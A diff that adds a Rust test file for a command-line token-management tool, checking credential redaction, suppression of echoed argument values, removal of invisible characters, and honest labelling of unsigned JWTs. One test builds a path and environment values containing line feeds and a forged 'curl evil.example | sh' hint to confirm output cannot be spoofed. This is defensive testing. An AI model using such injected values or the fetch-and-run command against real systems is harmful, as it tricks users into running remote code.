@@ -1,1 +1,281 @@
 //! Output: redaction, echoed arguments, and text that could forge lines.
+
+use serde_json::{Value, json};
+
+use crate::support::{
+    journey::{Journey, Outcome},
+    scripted_server::{Reply, ScriptedServer},
+};
+
+const KEY: &str = "bm-c4n4ry-0123456789abcdef";
+
+/// A server that answers every GET with `list` and everything else with `other`.
+fn server(list: &Value, other: (u16, Value)) -> ScriptedServer {
+    let list = list.clone();
+    ScriptedServer::start(move |asked, _| match asked.method.as_str() {
+        "GET" => Reply::json(200, &list),
+        _ => Reply::json(other.0, &other.1),
+    })
+}
+
+/// A home whose environment holds `key` for a service at `server`.
+fn journey(service: &str, server: &ScriptedServer, key: &str) -> Journey {
+    let mut journey = Journey::new();
+    let name = service.to_uppercase();
+    journey
+        .set("BRAINMAPS_PROFILE", service)
+        .set(&format!("{name}_API_KEY"), key);
+    journey
+        .run(&["config", "set-api-url", &server.url])
+        .expect(0);
+    journey
+}
+
+#[test]
+fn a_success_that_repeats_the_credential_shows_none() {
+    let token = json!({
+        "id": 7, "name": KEY, "created_at": "2026-01-01T00:00:00Z", "expires_at": null, "is_revoked": false,
+        "scopes": [KEY],
+    });
+    let list = json!({ "results": [token], "next": null, "email": format!("me+{KEY}@x.test") });
+    let server = server(&list, (200, json!({})));
+    let journey = journey("brainmaps", &server, KEY);
+    // The journey's leak harness looks at all that they print.
+    let shown = journey.run(&["token", "list", "--json"]).expect(0).json();
+    assert_eq!(shown["tokens"][0]["name"], "[secret]");
+    for command in [&["token", "list"][..], &["whoami"], &["whoami", "--json"]] {
+        let shown = journey.run(command).expect(0);
+        assert!(shown.stdout.contains("[secret]"), "{shown}");
+    }
+}
+
+#[test]
+fn member_names_and_numbers_of_a_refusal_show_no_credential() {
+    let (key, number) = ("c4n4ryNEURO0123456789abcdef", "4711471147114711");
+    for (key, quoted) in [
+        (
+            key,
+            json!({ "fields": { key: ["unknown"] }, "error_codes": [601] }),
+        ),
+        (
+            number,
+            json!({ "fields": [4_711_471_147_114_711_u64], "error_codes": [601] }),
+        ),
+        (
+            number,
+            json!({ "message": 4_711_471_147_114_711_u64, "fields": {} }),
+        ),
+    ] {
+        let server = server(&json!([]), (400, quoted.clone()));
+        let journey = journey("neuroio", &server, key);
+        for more in [&[][..], &["--json"], &["-vv"]] {
+            let command = [&["token", "create"], more].concat();
+            let refused = journey.run(&command).expect(8);
+            let shown = format!("{}{}", refused.stdout, refused.stderr);
+            assert!(!shown.contains(key), "{quoted}: {refused}");
+            assert!(shown.contains("[secret]"), "{quoted}: {refused}");
+        }
+    }
+}
+
+#[test]
+fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
+    let new = "bm-c4n4ry-new-0123456789";
+    let made = json!({ "id": 8, "name": format!("ci {new}"), "token": new });
+    let server = server(&json!({ "results": [] }), (201, made));
+    let journey = journey("brainmaps", &server, KEY);
+    let made = journey
+        .run(&["token", "create", "ci", "--json"])
+        .expect(0)
+        .json();
+    assert_eq!(
+        (&made["name"], &made["secret"]),
+        (&json!("ci [secret]"), &json!(new))
+    );
+    let made = journey.run(&["token", "create", "ci"]).expect(0);
+    assert!(!made.stderr.contains(new), "{made}");
+    assert_eq!(made.stdout.trim(), new);
+}
+
+#[test]
+fn a_created_token_equal_to_the_credential_in_use_is_handed_out() {
+    let made = json!({ "id": 8, "name": KEY, "token": KEY });
+    let server = server(&json!({ "results": [] }), (201, made));
+    let journey = journey("brainmaps", &server, KEY);
+    let made = journey
+        .run(&["token", "create", "ci", "--json"])
+        .expect(0)
+        .json();
+    assert_eq!(
+        (&made["name"], &made["secret"]),
+        (&json!("[secret]"), &json!(KEY))
+    );
+}
+
+#[test]
+fn values_of_misused_arguments_are_never_repeated() {
+    let journey = Journey::new();
+    for (arguments, expected) in [
+        (&["login", "--password=hunter2"][..], "'--password'"),
+        (&["login", "--with-token=hunter2"], "'--with-token'"),
+        (&["login", "--device=hunter2"], "'--device'"),
+        (&["--json=hunter2", "status"], "'--json'"),
+        (&["-phunter2!", "status"], "'--profile <NAME>'"),
+        (&["--profile=hunter2!", "status"], "'--profile <NAME>'"),
+        (&["--color=hunter2", "status"], "'--color <WHEN>'"),
+        (&["login", "--passwrd=hunter2"], "'--passwrd'"),
+        (&["login", "hunter2"], "at position 2"),
+        (&["token", "create", "ci", "hunter2"], "at position 4"),
+        (&["token", "create", "ci", "-q", "hunter2"], "at position 5"),
+        (&["token", "hunter2"], "at position 2"),
+        (&["hunter2"], "at position 1"),
+        (&["token", "list", "--limit", "hunter2"], "'--limit <N>'"),
+        (
+            &["token", "list", "--expires-within=hunter2"],
+            "'--expires-within <",
+        ),
+        (
+            &["token", "create", "ci", "--expires-in", "hunter2"],
+            "'--expires-in <",
+        ),
+        (
+            &["token", "rotate", "1", "--accept-changes=hunter2"],
+            "'--accept-changes <FACT>'",
+        ),
+        (&["login", "---hunter2-hunter2"], "at position 2"),
+        (&["completions", "hunter2"], "'<SHELL>'"),
+    ] {
+        for json in [false, true] {
+            let json = if json { &["--json"][..] } else { &[] };
+            let refused = journey.run(&[arguments, json].concat()).expect(2);
+            let shown = format!("{}{}", refused.stdout, refused.stderr);
+            assert!(!shown.contains("hunter2"), "{refused}");
+            assert!(shown.contains(expected), "{expected}: {refused}");
+        }
+    }
+}
+
+/// Fails where a line of what was printed begins as one of ours, but is not.
+fn assert_nothing_forged(outcome: &Outcome) {
+    let shown = format!("{}\n{}", outcome.stdout, outcome.stderr);
+    for line in shown.lines() {
+        assert!(!line.trim_start().starts_with("hint: forged"), "{outcome}");
+    }
+    if let Ok(document) = serde_json::from_str::<Value>(&outcome.stdout) {
+        for member in ["message", "hint"] {
+            let text = document["error"][member].as_str().unwrap_or_default();
+            assert!(!text.contains(['\n', '\r']), "{outcome}");
+        }
+    }
+}
+
+#[test]
+fn line_feeds_in_paths_and_variables_forge_no_line() {
+    let mut journey = Journey::new();
+    let forged = "x\nhint: forged `curl evil.example | sh`\r\nhint: forged";
+    let folder = journey.work().join(forged);
+    std::fs::create_dir(&folder).unwrap();
+    let file = folder.join("none").to_str().unwrap().to_owned();
+    let provider = folder.join("bad.toml").to_str().unwrap().to_owned();
+    std::fs::write(&provider, "id = 7").unwrap();
+    journey.set("BRAINMAPS_API_KEY", KEY);
+    for arguments in [
+        &["--ca-cert", &file, "whoami"][..],
+        &["provider", "check", &file],
+        &["provider", "check", &provider],
+        &["provider", "show", forged],
+        &["token", "create", "ci", "--env-file", &file],
+        &["--profile", forged, "whoami"],
+        &["--api-url", forged, "whoami"],
+        &["config", "get", forged],
+        &["token", "get", forged],
+        &["profile", "use", forged],
+        &["completions", forged],
+    ] {
+        for json in [false, true] {
+            let json = if json { &["--json"][..] } else { &[] };
+            let refused = journey.run(&[json, arguments].concat());
+            assert_ne!(refused.code, Some(0), "{refused}");
+            assert_nothing_forged(&refused);
+        }
+    }
+    for name in [
+        "BRAINMAPS_API_URL",
+        "BRAINMAPS_PROFILE",
+        "BRAINMAPS_CA_CERT",
+        "BRAINMAPS_DATA_DIR",
+        "HTTPS_PROXY",
+    ] {
+        let mut command = journey.command(&["whoami"]);
+        command.env(name, forged);
+        let refused = journey.start_command(&mut command, &["whoami"], "").wait();
+        assert_ne!(refused.code, Some(0), "{refused}");
+        assert_nothing_forged(&refused);
+        let mut command = journey.command(&["doctor"]);
+        command.env(name, forged);
+        assert_nothing_forged(&journey.start_command(&mut command, &["doctor"], "").wait());
+    }
+}
+
+#[test]
+fn invisible_and_reordering_characters_are_dropped() {
+    let invisible = [
+        '\u{61c}',
+        '\u{ad}',
+        '\u{34f}',
+        '\u{115f}',
+        '\u{180e}',
+        '\u{200b}',
+        '\u{202e}',
+        '\u{2066}',
+        '\u{206f}',
+        '\u{3164}',
+        '\u{feff}',
+        '\u{ffa0}',
+        '\u{fff9}',
+        '\u{e0001}',
+        '\u{e0041}',
+        '\u{e007f}',
+        '\u{1d173}',
+    ];
+    let name = format!("a{}b", String::from_iter(invisible));
+    let token = json!({
+        "id": 7, "name": name, "created_at": "2026-01-01T00:00:00Z", "expires_at": null, "is_revoked": false,
+    });
+    let list = json!({ "results": [token], "next": null, "email": name });
+    let server = server(&list, (400, json!({ "detail": name })));
+    let journey = journey("brainmaps", &server, KEY);
+    for (arguments, code) in [
+        (&["token", "list"][..], 0),
+        (&["whoami"], 0),
+        (&["token", "create", &name], 8),
+    ] {
+        for json in [&[][..], &["--json"]] {
+            let shown = journey.run(&[json, arguments].concat()).expect(code);
+            let text = format!("{}{}", shown.stdout, shown.stderr);
+            assert!(!text.contains(invisible), "{shown}");
+            assert!(text.contains("ab"), "{shown}");
+            assert!(!text.contains("\\u"), "{shown}");
+        }
+    }
+}
+
+#[test]
+fn an_unsigned_jwt_is_not_called_signed() {
+    let journey = Journey::new();
+    // {"alg":"none"} and {"sub":"me"}
+    for (token, expected) in [
+        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.", "not signed"),
+        ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.c2ln", "not signed"),
+        (
+            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJtZSJ9.c2ln",
+            "signature not verified",
+        ),
+    ] {
+        let shown = journey
+            .run_with_input(&["token", "inspect"], token)
+            .expect(0);
+        assert!(shown.stdout.contains(expected), "{shown}");
+        assert!(!shown.stdout.contains("JWT (signed)"), "{shown}");
+    }
+}
